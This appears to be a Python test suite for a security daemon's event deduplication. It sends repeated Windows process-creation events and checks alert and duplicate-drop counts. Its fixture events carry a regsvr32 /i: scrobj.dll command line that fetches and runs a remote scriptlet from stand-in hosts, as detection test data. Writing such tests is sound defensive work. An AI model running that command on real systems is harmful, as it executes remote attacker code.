"""What was acknowledged is not lost, and what is sent again is known again."""
import json

from harness import Case, eventually, main


def event(n, host="ws-1.corp.example", command="regsvr32 /s /u /i:http://files.example.net/{}.sct scrobj.dll"):
    """Record number `n` of a computer, with all that tells it from others."""
    return json.dumps({"EventID": 4688, "Channel": "Security", "Hostname": host, "RecordNumber": n,
                       "SourceName": "Microsoft-Windows-Security-Auditing", "SourceModuleType": "im_msvistalog",
                       "NewProcessName": "C:\\Windows\\System32\\regsvr32.exe",
                       "CommandLine": command.format(n)}).encode() + b"\n"


def harmless(n):
    return event(n, command="regsvr32 /s C:\\Windows\\System32\\wshom.ocx")


class Duplicates(Case):
    def start(self, window):
        up = self.upstream()
        return up, self.daemon(f"deduplicate:\n  window: {window}\n", upstream=up)

    def test_events_sent_again_are_counted_and_raise_no_second_alert(self):
        up, d = self.start(1000)
        first = b"".join(event(n) for n in range(40)) + b"".join(harmless(n) for n in range(100, 160))
        d.send(first)
        c = d.wait_received(100)
        alerted = c["alerted"]
        self.assertGreaterEqual(alerted, 40)
        self.assertEqual(c["dropped"], 0)
        d.send(first[: len(first) // 2].rpartition(b"\n")[0] + b"\n")  # the first of them, on another connection
        again = first[: len(first) // 2].count(b"\n")
        c = d.wait_received(100 + again)
        self.assertEqual((c["alerted"], c["dropped"], c["dropped_duplicate"]), (alerted, again, again))
        d.send(event(1000))
        c = self.assert_stops(d, 101 + again)
        self.assertEqual((c["alerted"], c["dropped_duplicate"]), (alerted + 1, again))
        eventually("all alerts", lambda: len(up.lines) >= c["alerts"])
        self.assertEqual(len(up.lines), c["alerts"])
        self.assertEqual(len({a["process"]["command_line"] for a in up.alerts() if "scrobj" in
                              a["process"]["command_line"]}), 41)

    def test_who_claims_the_record_ids_of_others_hides_nothing(self):
        up, d = self.start(1000)
        d.send(b"".join(harmless(n) for n in range(20)))
        d.wait_received(20)
        d.send(b"".join(event(n) for n in range(20)))  # the same record ids, but now a rule matches
        c = d.wait_received(40)
        self.assertEqual(c["dropped"], 0)
        d.send(b"".join(event(n, command="regsvr32 /i:https://elsewhere.example.net/{} scrobj.dll")
                        for n in range(20)))  # and the same rule, for another command line
        c = self.assert_stops(d, 60)
        self.assertEqual(c["dropped"], 0)
        self.assertGreaterEqual(c["alerted"], 40)

    def test_events_of_one_record_are_told_apart(self):
        up, d = self.start(1000)
        both = b"[" + event(1).strip() + b"," + event(2).strip() + b"]\n"
        d.send(event(1))
        d.wait_received(1)
        d.send(both)
        c = d.wait_received(3)
        self.assertEqual((c["alerted"], c["dropped_duplicate"]), (2, 1))
        d.send(both)
        c = self.assert_stops(d, 5)
        self.assertEqual((c["alerted"], c["dropped_duplicate"]), (2, 3))

    def test_the_window_is_a_number_of_events_and_off_by_default(self):
        up, d = self.start(10)
        d.send(b"".join(event(n) for n in range(11)))
        d.wait_received(11)
        d.send(event(10) + event(0))  # the newest is known, the oldest was forgotten
        c = self.assert_stops(d, 13)
        self.assertEqual((c["alerted"], c["dropped_duplicate"]), (12, 1))
        up = self.upstream()
        d = self.daemon(upstream=up)
        d.send(event(1) + event(1))
        self.assertEqual(self.assert_stops(d, 2)["alerted"], 2)


if __name__ == "__main__":
    main()
